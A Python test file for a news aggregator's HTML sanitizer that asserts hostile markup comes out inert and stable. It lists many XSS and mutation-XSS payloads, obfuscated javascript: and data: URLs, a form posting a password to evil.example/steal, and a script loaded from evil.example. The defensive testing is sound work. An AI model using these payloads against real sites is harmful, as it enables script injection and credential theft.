"""Hostile HTML through aggregator.text.sanitize: every script vector comes out inert, and cleaning is a fixed point.

`HOSTILE_FRAGMENTS` and `assert_inert` are meant for reuse by the tests of the web app, the digest
and the feeds: render each fragment where stored HTML is shown and call `assert_inert` on the result.
"""

from __future__ import annotations

import re
import time

import html5lib
import lxml.html
import pytest

from aggregator.text.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, clean_html, clean_text, html_to_text

BASE = "https://partner.example.org/news/"
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")
# What a browser removes from a URL attribute before it reads the scheme (WHATWG URL: leading and
# trailing C0 controls and spaces; tab and newline anywhere).
_URL_STRIP = "".join(chr(c) for c in range(0x21))

JAVASCRIPT_HREFS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\x01\x02 javascript:alert(1)",
    "\x00javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#9;ascript:alert(1)",
    "jav&Tab;ascript:alert(1)",
    "jav&NewLine;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#106avascript:alert(1)",  # decimal, no semicolon
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",  # hex, no semicolons
    "&#X6a;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "%6Aavascript:alert(1)",  # percent-encoded scheme: not a scheme at all, a relative path
    "javascript%3Aalert(1)",
    "&#37;6Aavascript:alert(1)",
    "\u2028javascript:alert(1)",
    "javascript\x00:alert(1)",
    "  \t\njavascript:alert(document.domain)//",
]
OTHER_BAD_HREFS = [
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    " data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "livescript:alert(1)",
    "file:///etc/passwd",
    "jar:http://x!/",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
]

HOSTILE_FRAGMENTS = [
    *(f'<a href="{href}">x</a>' for href in JAVASCRIPT_HREFS + OTHER_BAD_HREFS),
    *(f'<img src="{href}" alt="i">' for href in ("javascript:alert(1)", "data:image/png;base64,iVBOR", " vbscript:x")),
    # SVG and MathML, with xlink:href
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    '<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<a xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink">x</a>',
    # elements that act or embed
    '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x"></applet>',
    '<style>body{background:url("javascript:alert(1)")}</style><p>s</p>',
    '<p style="background:url(javascript:alert(1))">s</p>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//"><a href="x">x</a>',
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">d</details>',
    '<input autofocus onfocus="alert(1)">',
    '<isindex action="javascript:alert(1)" type="image">',
    '<frameset onload="alert(1)">',
    '<marquee onstart="alert(1)">m</marquee>',
    # event attributes on allowed tags
    '<p onclick="alert(1)">p</p>',
    '<a href="https://ok.example/" onmouseover="alert(1)">a</a>',
    '<img src="https://ok.example/i.png" onerror="alert(1)" onload="alert(2)">',
    '<b ONCLICK="alert(1)">b</b>',
    '<div/onclick="alert(1)">d</div>',
    # mXSS: parser differentials and serialisation round trips
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "<template><img src=x onerror=alert(1)></template>",
    "<template><s><template><img src=x onerror=alert(1)></template></s></template>",
    "<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></p></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<img src=x/onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    '<table><a href="javascript:alert(1)"><tr><td>t</td></tr></a></table>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#x2028;javascript:alert(1)">x</a>',
]

# Tag soup whose first cleaning serialised into markup that parses into another tree (found by the
# property tests; clean_html now cleans until stable).
UNSTABLE_FRAGMENTS = [
    "<a href='javascript:x'><table><a href='javascript:x'>",
    '<a href="https://ok.example/"><table><a href="javascript:alert(1)">nested</a></table></a>',
    '<a href="/r"><select><a href="/r">',
]


def _parsed_trees(markup: str):
    """`markup` as two different parsers see it: libxml2's (lxml.html) and an HTML5 one (html5lib)."""
    yield lxml.html.fragment_fromstring(markup, create_parent="div")
    yield html5lib.parseFragment(markup, container="div", treebuilder="etree", namespaceHTMLElements=False)


def _scheme(url: str) -> str | None:
    squeezed = url.strip(_URL_STRIP).replace("\t", "").replace("\n", "").replace("\r", "")
    match = _SCHEME.match(squeezed)
    return match[1].lower() if match else None


def assert_inert(markup: str) -> None:
    """No element, attribute or URL in `markup` that can run script or post a form, in either parser's reading."""
    lowered = markup.lower()
    assert "<script" not in lowered and "<style" not in lowered, markup
    for tree in _parsed_trees(markup):
        for element in tree.iter():
            if not isinstance(element.tag, str):
                continue  # comments and processing instructions carry no behaviour once parsed as such
            tag = element.tag.rsplit("}", 1)[-1].lower()
            assert tag in ALLOWED_TAGS or element is tree, (tag, markup)
            allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}
            for name, value in element.attrib.items():
                local = name.rsplit("}", 1)[-1].lower()
                assert not local.startswith("on"), (name, markup)
                assert local in allowed or element is tree, (tag, name, markup)
                if local in ("href", "src"):
                    scheme = _scheme(value)
                    assert scheme is None or scheme in SAFE_SCHEMES, (value, markup)


@pytest.mark.parametrize("base_url", [None, BASE], ids=["no-base", "base"])
@pytest.mark.parametrize("fragment", HOSTILE_FRAGMENTS)
def test_hostile_fragment_is_inert_and_stable(fragment: str, base_url: str | None) -> None:
    cleaned = clean_html(fragment, base_url)
    assert_inert(cleaned)
    assert clean_html(cleaned, base_url) == cleaned  # sanitising twice changes nothing


@pytest.mark.parametrize("href", JAVASCRIPT_HREFS + OTHER_BAD_HREFS)
def test_dangerous_link_loses_its_href_or_becomes_relative(href: str) -> None:
    cleaned = clean_html(f'<a href="{href}">x</a>', BASE)
    (link,) = lxml.html.fragment_fromstring(cleaned, create_parent="div").iter("a")
    value = link.get("href")
    # either dropped, or (percent-encoded "schemes") resolved as a path below the page's own site
    assert value is None or value.startswith(BASE), value
    assert link.text == "x"


@pytest.mark.parametrize(
    "fragment",
    [
        "<script>alert(1)</script>x<style>p{color:red}</style>",
        "<svg><script>alert(1)</script></svg>x",
        "<!--<script>alert(1)</script>-->x",
    ],
)
def test_plain_text_drops_script_and_style_content(fragment: str) -> None:
    assert html_to_text(fragment) == "x"


def test_safe_markup_is_kept() -> None:
    fragment = (
        '<p>Kindness <strong>matters</strong> &amp; <a href="/report.pdf" title="Report">the report</a>'
        '<img src="img/a.png" alt="A ward" width="10"></p><ul><li>one</li></ul><a href="mailto:x@example.org">m</a>'
    )
    assert clean_html(fragment, BASE) == (
        '<p>Kindness <strong>matters</strong> &amp; <a href="https://partner.example.org/report.pdf" title="Report" '
        'rel="noopener noreferrer nofollow">the report</a><img src="https://partner.example.org/news/img/a.png" '
        'alt="A ward" width="10"></p><ul><li>one</li></ul>'
        '<a href="mailto:x@example.org" rel="noopener noreferrer nofollow">m</a>'
    )


@pytest.mark.parametrize("base_url", [None, BASE], ids=["no-base", "base"])
@pytest.mark.parametrize("fragment", UNSTABLE_FRAGMENTS)
def test_unstable_tree_is_a_fixed_point(fragment: str, base_url: str | None) -> None:
    once = clean_html(fragment, base_url)
    assert_inert(once)  # safe either way
    assert_inert(clean_html(once, base_url))
    assert clean_html(once, base_url) == once


@pytest.mark.parametrize(
    "fragment",
    [
        "<p>a&#1;b&#x1b;c&#0;d&#127;e</p>",  # character references that decode to controls
        "<p>a\x01b\x1bc\x7fd</p>",
        "<p>a\ud800b\udfffc</p>",  # lone surrogates, as a JSON "\ud800" escape produces
    ],
)
def test_controls_and_surrogates_never_reach_the_output(fragment: str) -> None:
    for value in (clean_html(fragment), clean_html(fragment, BASE), html_to_text(fragment), clean_text(fragment)):
        value.encode("utf-8")
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", value), repr(value)


def test_ten_thousand_deep_nesting_is_bounded() -> None:
    deep = "<div><b><i>" * 3_400 + "x" + "</i></b></div>" * 3_400
    started = time.process_time()  # processor time: wall-clock time says more of the machine than of the code
    cleaned = clean_html(deep, BASE)
    text = html_to_text(deep)
    assert time.process_time() - started < 10
    assert "x" in cleaned and text == "x"


@pytest.mark.parametrize(
    "base_url", ["http://256.1.1.1/", "http://exa mple.com/", "https://[::1", "https://:80/", "javascript:alert(1)//"]
)
def test_a_base_no_link_can_be_resolved_against_drops_relative_links_and_keeps_the_rest(base_url: str) -> None:
    """A feed's xml:base is fetched text: one the URL parser refuses must not fail the feed (the cleaner used
    to raise ValueError for it) nor leave a relative link that points nowhere in a mail."""
    cleaned = clean_html('<p><a href="/seminars/">Seminars</a> <a href="https://ok.example/r">Report</a></p>', base_url)
    assert cleaned == (
        '<p><a rel="noopener noreferrer nofollow">Seminars</a> '
        '<a href="https://ok.example/r" rel="noopener noreferrer nofollow">Report</a></p>'
    )
    assert_inert(cleaned)
